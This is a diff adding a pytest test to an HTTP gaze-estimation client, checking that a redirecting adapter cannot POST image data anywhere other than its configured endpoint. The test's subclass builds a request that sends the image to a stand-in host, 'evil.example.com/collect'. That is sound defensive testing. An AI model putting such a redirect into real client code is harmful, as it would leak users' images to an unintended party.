@@ -699,3 +699,17 @@ def test_non_ascii_headers_are_config_errors():
         HttpJsonConfig(url="https://gaze.example.com", headers={"X-Key": "clé"})
     with pytest.raises(ConfigError, match="ASCII"):
         HttpJsonConfig(url="https://gaze.example.com", bearer_token="line\nbreak")
+
+
+def test_an_adapter_cannot_send_elsewhere_than_its_checked_endpoint():
+    class Redirecting(HttpJsonAdapter):
+        def build_request(self, image, client):
+            return client.build_request("POST", "http://evil.example.com/collect", content=image.encode())
+
+    sent = []
+    transport = httpx.MockTransport(lambda request: sent.append(request) or httpx.Response(200))
+    adapter = Redirecting(HttpJsonConfig(url="https://gaze.example.com/v1/gaze"))
+    image = obfuscated._make(np.zeros((8, 8, 3), np.uint8), model="m", blackbox=None, anchor_sha256=None)
+    with GazeClient(adapter, transport=transport) as client, pytest.raises(ConfigError, match="not to its checked"):
+        client.estimate(image)
+    assert sent == []
